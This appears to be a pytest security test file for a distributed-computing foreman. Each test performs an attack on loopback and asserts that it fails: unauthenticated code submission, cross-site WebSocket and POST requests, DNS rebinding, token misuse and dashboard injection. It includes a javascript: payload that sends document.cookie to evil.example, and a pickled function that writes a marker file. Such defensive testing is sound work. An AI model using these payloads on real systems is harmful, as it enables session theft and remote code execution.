"""Attacks on the foreman's web side, run on loopback against real foremen, real workers, real HTTP and real
WebSockets: each test performs the attack and shows that it fails (issue 17, the web and credentials part).

- a web page in the user's browser, or another local user, drives a default ``Foreman()``: connects without a
  token and submits code, opens a WebSocket from another site, POSTs ban/restart/cancel from another site,
  reaches the foreman under a rebound DNS name;
- a client reads or cancels another client's jobs, or bans workers, over HTTP;
- a worker-only token (what volunteers get) acts as a client;
- a worker's HELLO plants a ``javascript:`` link or malformed facts on the operator's dashboard;
- the login cookie carries the token, or is sent over plain http.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import socket
import ssl
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import cloudpickle
import httpx
import pytest
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, InvalidStatus

from conftest import wait_until
from foreman import Foreman, protocol
from foreman.addresses import split_token
from foreman.protocol import CloseCode, Kind
from service_tasks import nap_square  # connected clients ship by value the module of what they run: not tasks.py
from tasks import square

FAST = {"heartbeat_interval": 0.2, "heartbeat_timeout": 3}
EVIL = "http://evil.example"


def _connect_header(token: str | None, client: str = "attacker") -> dict:
    return {"protocol": protocol.PROTOCOL_VERSION, "client": client, "token": token, "python": "3.11.7",
            "cloudpickle": cloudpickle.__version__}


async def _submit_code(address: str, token: str | None, marker: Path, **connect_options) -> tuple[int | None, str]:
    """The attack of a page or a local user: CONNECT as a client, SUBMIT a hand-made function that writes
    ``marker``, feed it one task. Returns how the connection ended (close code, reason), or (None, "accepted")
    when the foreman took the job."""
    function = cloudpickle.dumps(lambda path: Path(path).write_text("pwned"))
    async with connect(address, max_size=None, **connect_options) as ws:
        await ws.send(protocol.encode(Kind.CONNECT, _connect_header(token)))
        try:
            welcome = protocol.decode(await asyncio.wait_for(ws.recv(), 10))
        except ConnectionClosed:
            return ws.close_code, ws.close_reason or ""
        assert welcome.kind is Kind.WELCOME
        digest = hashlib.sha256(function).hexdigest()
        await ws.send(protocol.encode(Kind.SUBMIT, {"ref": 1, "name": "pwn", "digest": digest,
                                                    "call": protocol.CALL_ONE, "detached": True, "options": {}},
                                      function))
        accepted = protocol.decode(await asyncio.wait_for(ws.recv(), 10))
        job = accepted.header.get("job")
        if job is not None:
            from foreman.serialization import dumps_items

            batch = dumps_items([str(marker)], 0, False)
            try:
                await ws.send(protocol.encode(Kind.INPUT, {"job": job, "start": 0, "count": 1}, batch.data))
                await ws.send(protocol.encode(Kind.INPUT_END, {"job": job}))
            except ConnectionClosed:
                pass
            for _ in range(50):  # up to 5 s for a local worker to run it
                if marker.exists():
                    break
                await asyncio.sleep(0.1)
        return None, "accepted"


def _bare(address: str) -> str:
    return split_token(address)[0]


@pytest.fixture
def default_fm() -> Iterator[Foreman]:
    """What a script writes: ``Foreman(local_workers=...)``, no token."""
    with Foreman(port=0, local_workers=1, **FAST) as fm:
        fm.wait_for_workers(1, timeout=30)
        yield fm


# -- RCE path 2: the default foreman is nobody's to drive -----------------------------------------------------

def test_no_token_connect_and_submit_is_refused_and_nothing_runs(default_fm: Foreman, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    outcome = asyncio.run(_submit_code(_bare(default_fm.address), None, marker))
    assert outcome == (CloseCode.AUTH_FAILED, "token required")
    assert not marker.exists()
    assert default_fm.jobs() == []
    assert default_fm.map(square, range(5)) == [0, 1, 4, 9, 16]  # its own script is unaffected


def test_a_worker_token_cannot_act_as_a_client(default_fm: Foreman, tmp_path: Path) -> None:
    """The address workers are handed carries a worker-only token: it joins, it cannot SUBMIT."""
    marker = tmp_path / "pwned"
    address, worker_token = split_token(default_fm.address)
    assert worker_token and worker_token != default_fm.token
    outcome = asyncio.run(_submit_code(address, worker_token, marker))
    assert outcome == (CloseCode.AUTH_FAILED, "a worker token cannot connect as a client")
    with pytest.raises(Exception, match="cannot connect as a client"):
        Foreman.connect(default_fm.address)  # the address's own token: still a worker's
    assert not marker.exists()


def test_a_volunteers_token_file_token_cannot_submit(tmp_path: Path) -> None:
    """The README's recipe: volunteers get [workers] tokens; one of them tries to push code to the others."""
    tokens = tmp_path / "tokens.toml"
    tokens.write_text('[workers]\nvolunteer = "w-volunteer-0001"\n[clients]\nalice = "c-alice-00001"\n')
    marker = tmp_path / "pwned"
    with Foreman(port=0, token_file=str(tokens), local_workers=1, **FAST) as fm:
        outcome = asyncio.run(_submit_code(fm.address, "w-volunteer-0001", marker))
        assert outcome == (CloseCode.AUTH_FAILED, "a worker token cannot connect as a client")
        assert asyncio.run(_submit_code(fm.address, "c-alice-00001", tmp_path / "fine"))[0] is None  # a client may
    assert not marker.exists()


def test_the_admin_gets_the_token_naturally(default_fm: Foreman) -> None:
    with Foreman.connect(_bare(default_fm.address), token=default_fm.token) as client:
        assert client.map(nap_square, range(4), [0] * 4) == [0, 1, 4, 9]


def test_a_websocket_from_another_site_is_refused_even_with_the_token(default_fm: Foreman, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    with pytest.raises(InvalidStatus) as refused:
        asyncio.run(_submit_code(_bare(default_fm.address), default_fm.token, marker, origin=EVIL))
    assert refused.value.response.status_code == 403
    assert not marker.exists()
    # The foreman's own pages may (a page it serves, on its dashboard's origin): the check is not a blanket one.
    own = default_fm.dashboard_url.rstrip("/")
    assert asyncio.run(_submit_code(_bare(default_fm.address), default_fm.token, tmp_path / "ok", origin=own))[0] is None


def _raw_status(port: int, request: str) -> int:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(request.encode())
        return int(sock.recv(4096).split(b" ", 2)[1])


def test_a_rebound_dns_name_is_refused_on_loopback(default_fm: Foreman) -> None:
    """DNS rebinding: evil.example now resolves to 127.0.0.1, and a page of evil.example talks to the foreman as
    same-origin; the foreman sees ``Host: evil.example`` and refuses, on both ports."""
    port = urlsplit(default_fm.address).port
    handshake = ("GET / HTTP/1.1\r\nHost: evil.example:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
    assert _raw_status(port, handshake.format(port=port)) == 403
    assert _raw_status(port, handshake.replace("evil.example", "127.0.0.1").format(port=port)) == 101
    api = default_fm.dashboard_url
    assert httpx.get(f"{api}api/jobs", headers={"Host": "evil.example"}).status_code == 403
    assert httpx.get(f"{api}api/jobs", headers={"Host": "localhost"}).status_code == 200
    http_port = urlsplit(api).port
    live = handshake.replace("GET / ", "GET /ws ").replace("{port}", str(http_port))
    assert _raw_status(http_port, live) == 403
    assert _raw_status(http_port, live.replace("evil.example", "127.0.0.1")) == 101


def test_cross_site_posts_to_ban_restart_cancel_are_refused(default_fm: Foreman) -> None:
    """A page of another site POSTs to the dashboard in the logged-in user's browser (its cookie goes along)."""
    worker = default_fm.workers[0]
    job = default_fm.imap(square, range(3))
    with httpx.Client(base_url=default_fm.dashboard_url, timeout=10) as browser:
        login = browser.get(f"/?token={default_fm.token}", follow_redirects=False)  # the link a foreman prints
        assert login.status_code == 303 and browser.cookies
        for path in (f"/api/workers/{worker}/ban", f"/api/workers/{worker}/restart", f"/api/jobs/{job.id}/cancel"):
            response = browser.post(path, headers={"Origin": EVIL})
            assert response.status_code == 403, path
            assert response.json()["detail"] == "cross-site request refused"
        reputation = browser.get(f"/api/workers/{worker}").json()["reputation"]
        assert reputation["state"] == "ok"  # not banned
        assert list(job) == [0, 1, 4]  # not cancelled
        own = default_fm.dashboard_url.rstrip("/")  # the dashboard's own page may, with the cookie
        assert browser.post(f"/api/workers/{worker}/ban", headers={"Origin": own}).status_code == 200


def test_control_without_a_token_is_refused_on_loopback(default_fm: Foreman) -> None:
    """Another local user (no token) may read the dashboard but change nothing."""
    worker = default_fm.workers[0]
    with httpx.Client(base_url=default_fm.dashboard_url, timeout=10) as local_user:
        assert local_user.get("/api/workers").status_code == 200
        for path in (f"/api/workers/{worker}/ban", f"/api/workers/{worker}/restart", "/api/jobs/1/cancel"):
            assert local_user.post(path).status_code == 401, path


def test_listening_beyond_loopback_without_a_token_is_refused() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    with pytest.raises(ValueError, match="needs a token or a token_file"):
        Foreman(host="0.0.0.0", port=port)
    with socket.socket() as again:  # nothing was left listening
        again.bind(("0.0.0.0", port))


# -- the HTTP API: one owner's jobs are nobody else's -----------------------------------------------------------

@pytest.fixture
def service(tmp_path: Path) -> Iterator[Foreman]:
    tokens = tmp_path / "tokens.toml"
    tokens.write_text('[workers]\nvolunteer = "w-volunteer-0001"\n'
                      '[clients]\nalice = "c-alice-00001"\nbob = "c-bob-000001"\n')
    with Foreman(port=0, token="admin-secret-1", token_file=str(tokens), **FAST) as fm:  # no workers: jobs wait
        yield fm


def _as(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_client_b_cannot_list_see_or_cancel_client_as_jobs(service: Foreman) -> None:
    with Foreman.connect(service.address, token="c-alice-00001") as alice:
        job = alice.submit_job(nap_square, range(10))
        with httpx.Client(base_url=service.dashboard_url, timeout=10) as api:
            wait_until(lambda: any(j["id"] == job.id for j in api.get("/api/jobs", headers=_as("admin-secret-1")).json()))
            assert [j["id"] for j in api.get("/api/jobs", headers=_as("c-alice-00001")).json()] == [job.id]
            assert api.get("/api/jobs", headers=_as("c-bob-000001")).json() == []
            assert api.get(f"/api/jobs/{job.id}", headers=_as("c-bob-000001")).status_code == 404
            status = api.get("/api/status", headers=_as("c-bob-000001")).json()
            assert status["jobs"] == [] and not any(e["kind"] == "job" for e in status["events"])
            assert api.post(f"/api/jobs/{job.id}/cancel", headers=_as("c-bob-000001")).status_code == 404
            assert api.get(f"/api/jobs/{job.id}", headers=_as("c-alice-00001")).json()["state"] == "waiting"  # not cancelled
            assert api.get("/api/jobs").json() == []  # no token, on loopback: the viewer never sees a client's
            assert api.post(f"/api/jobs/{job.id}/cancel", headers=_as("c-alice-00001")).json()["cancelled"] is True


def test_clients_and_workers_cannot_ban_or_restart_workers(service: Foreman) -> None:
    with httpx.Client(base_url=service.dashboard_url, timeout=10) as api:
        for token in ("c-alice-00001", "w-volunteer-0001"):
            for path in ("/api/workers/someone/ban", "/api/workers/someone/unban", "/api/workers/someone/restart"):
                assert api.post(path, headers=_as(token)).status_code == 403, (token, path)
        assert api.get("/api/workers", headers=_as("w-volunteer-0001")).status_code == 403  # a worker only computes
        assert api.post("/api/workers/someone/ban", headers=_as("admin-secret-1")).json()["banned"] is True


# -- the dashboard's pages, cookie and live feed ----------------------------------------------------------------

async def _first_snapshot(url: str, **options) -> dict:
    async with connect(url, **options) as ws:
        return json.loads(await asyncio.wait_for(ws.recv(), 10))


def test_the_live_feed_is_not_readable_from_another_site(default_fm: Foreman) -> None:
    ws = default_fm.dashboard_url.replace("http://", "ws://") + "ws"
    with pytest.raises(InvalidStatus) as refused:
        asyncio.run(_first_snapshot(ws, origin=EVIL))
    assert refused.value.response.status_code == 403
    own = default_fm.dashboard_url.rstrip("/")
    assert "workers" in asyncio.run(_first_snapshot(ws, origin=own))


def test_pages_refuse_frames_and_foreign_scripts(default_fm: Foreman) -> None:
    page = httpx.get(default_fm.dashboard_url, timeout=10)
    assert page.status_code == 200
    assert page.headers["x-frame-options"] == "DENY"
    policy = page.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
    assert httpx.get(f"{default_fm.dashboard_url}api/workers").headers["x-frame-options"] == "DENY"


def test_the_login_cookie_is_a_digest_scoped_to_the_port(default_fm: Foreman) -> None:
    response = httpx.get(f"{default_fm.dashboard_url}?token={default_fm.token}", follow_redirects=False)
    name, _, rest = response.headers["set-cookie"].partition("=")
    value = rest.split(";")[0]
    assert name == f"crowdcompute_foreman_{urlsplit(default_fm.dashboard_url).port}"
    assert default_fm.token not in response.headers["set-cookie"] and len(value) == 64
    flags = response.headers["set-cookie"].lower()
    assert "httponly" in flags and "samesite=strict" in flags and "secure" not in flags  # plain http here
    assert response.headers["location"] == "./"  # the token leaves the address bar
    wrong = httpx.get(f"{default_fm.dashboard_url}?token=guess", follow_redirects=False)
    assert wrong.status_code == 401 and "set-cookie" not in wrong.headers


def test_the_login_cookie_is_secure_over_https(tmp_path: Path) -> None:
    trustme = pytest.importorskip("trustme")
    ca = trustme.CA()
    cert, ca_file = tmp_path / "cert.pem", tmp_path / "ca.pem"
    ca.issue_cert("127.0.0.1").private_key_and_cert_chain_pem.write_to_path(cert)
    ca.cert_pem.write_to_path(ca_file)
    with Foreman(port=0, token="tls-admin-1", certfile=str(cert), **FAST) as fm:
        verify = ssl.create_default_context(cafile=str(ca_file))
        login = httpx.post(f"{fm.dashboard_url}login", content="token=tls-admin-1", verify=verify,
                           headers={"content-type": "application/x-www-form-urlencoded"}, timeout=10)
        assert login.status_code == 303
        cookie = login.headers["set-cookie"]
        assert "secure" in cookie.lower() and "tls-admin-1" not in cookie


async def _hello_and_hold(address: str, token: str, hello: dict, held: asyncio.Event, release: asyncio.Event) -> None:
    async with connect(address) as ws:
        await ws.send(protocol.encode(Kind.HELLO, hello))
        assert protocol.decode(await asyncio.wait_for(ws.recv(), 10)).kind is Kind.WELCOME
        held.set()
        await release.wait()


def test_a_workers_javascript_link_and_malformed_facts_do_not_reach_the_page(default_fm: Foreman) -> None:
    address, worker_token = split_token(default_fm.address)
    hello = {"protocol": protocol.PROTOCOL_VERSION, "worker_id": "mallory", "token": worker_token,
             "python": "3.11.7", "cloudpickle": cloudpickle.__version__, "concurrency": 1,
             "capabilities": [{"not": "a string"}], "hostname": {"a": "dict"}, "platform": ["a", "list"],
             "memory": "lots", "cpu_count": True, "gpus": [{"name": {"x": 1}}, "not a dict"],
             "dashboard": "javascript:fetch('//evil.example/?'+document.cookie)"}

    async def attack() -> list[dict]:
        held, release = asyncio.Event(), asyncio.Event()
        task = asyncio.create_task(_hello_and_hold(address, worker_token, hello, held, release))
        await asyncio.wait_for(held.wait(), 10)
        async with httpx.AsyncClient(base_url=default_fm.dashboard_url, timeout=10) as api:
            workers = (await api.get("/api/workers")).json()
            assert (await api.get("/api/status")).status_code == 200
            assert (await api.get("/")).status_code == 200
        release.set()
        await task
        return workers

    mallory = next(w for w in asyncio.run(attack()) if w["id"] == "mallory")
    assert mallory["dashboard"] is None
    assert mallory["memory"] is None and mallory["cpu_count"] is None
    assert isinstance(mallory["host"], str) and isinstance(mallory["platform"], str)
    assert mallory["gpus"] == [{"name": "{'x': 1}"}]
    assert all(isinstance(c, str) for c in mallory["capabilities"])


@pytest.mark.slow
def test_the_page_survives_a_hostile_hello_in_a_browser(default_fm: Foreman, browser_page) -> None:
    """The operator's page in headless Chromium, with a worker that announced a javascript: dashboard link and
    facts of the wrong types: the page keeps rendering, and nothing on it is a javascript: link."""
    import threading

    playwright = pytest.importorskip("playwright.sync_api")
    address, worker_token = split_token(default_fm.address)
    hello = {"protocol": protocol.PROTOCOL_VERSION, "worker_id": "mallory", "token": worker_token,
             "python": "3.11.7", "cloudpickle": cloudpickle.__version__, "concurrency": 1, "capabilities": [],
             "hostname": {"a": "dict"}, "memory": "lots", "gpus": "many", "dashboard": "javascript:alert(1)"}
    loop = asyncio.new_event_loop()
    held, release = asyncio.Event(), asyncio.Event()
    holder = threading.Thread(target=loop.run_until_complete,
                              args=(_hello_and_hold(address, worker_token, hello, held, release),), daemon=True)
    holder.start()
    try:
        wait_until(held.is_set, timeout=10)
        page = browser_page
        page.goto(default_fm.dashboard_login_url)
        playwright.expect(page.locator("#live")).to_have_text("live", timeout=10_000)
        playwright.expect(page.locator('tr[data-worker="mallory"]')).to_have_count(1, timeout=10_000)
        playwright.expect(page.locator("#t-workers")).to_have_text("2")
        assert page.locator('a[href^="javascript" i]').count() == 0
    finally:
        loop.call_soon_threadsafe(release.set)
        holder.join(timeout=10)


def test_the_readme_recipe_gives_volunteers_worker_only_tokens_over_wss(tmp_path: Path, spawn_worker) -> None:
    """README, "Workers on other devices", on loopback: a foreman from the command line with a token file and a
    self-signed certificate; a volunteer's worker joins over wss:// with its pinned fingerprint; the same
    volunteer's token cannot connect as a client to push code to the others."""
    import re
    import subprocess
    import sys

    trustme = pytest.importorskip("trustme")
    from conftest import stop_process, worker_env

    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    issued = trustme.CA().issue_cert("127.0.0.1")
    issued.cert_chain_pems[0].write_to_path(cert)
    issued.private_key_pem.write_to_path(key)
    tokens = tmp_path / "tokens.toml"
    tokens.write_text('[workers]\nalice-laptop = "w-alice-laptop-1"\nbob-pi = "w-bob-pi-00001"\n')
    foreman = subprocess.Popen([sys.executable, "-m", "foreman", "--host", "127.0.0.1", "--port", "0",
                                "--token-file", str(tokens), "--token", "admin-secret-1", "--certfile", str(cert),
                                "--keyfile", str(key), "--no-dashboard", "--heartbeat-interval", "0.2"],
                               env=worker_env(), stdout=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL)
    try:
        assert foreman.stdout is not None
        ready = foreman.stdout.readline()
        address = re.search(r"wss://127\.0\.0\.1:\d+", ready).group(0)
        fingerprint = re.search(r"--fingerprint (sha256:[0-9a-f]+)", foreman.stdout.readline()).group(1)
        spawn_worker(address, "--fingerprint", fingerprint, "--worker-id", "alice-laptop", "--no-dashboard",
                     env=worker_env(CROWDCOMPUTE_TOKEN="w-alice-laptop-1"))
        pinned = ssl.create_default_context(cafile=None)
        pinned.check_hostname, pinned.verify_mode = False, ssl.CERT_NONE  # the attacker is not stopped by TLS
        outcome = asyncio.run(_submit_code(address, "w-alice-laptop-1", tmp_path / "pwned", ssl=pinned))
        assert outcome == (CloseCode.AUTH_FAILED, "a worker token cannot connect as a client")
        with Foreman.connect(address, token="admin-secret-1", fingerprint=fingerprint) as operator:
            operator.wait_for_workers(1, timeout=30)
            assert operator.workers == ["alice-laptop"]
            assert operator.map(nap_square, range(6), [0] * 6, timeout=60) == [0, 1, 4, 9, 16, 25]
    finally:
        stop_process(foreman)
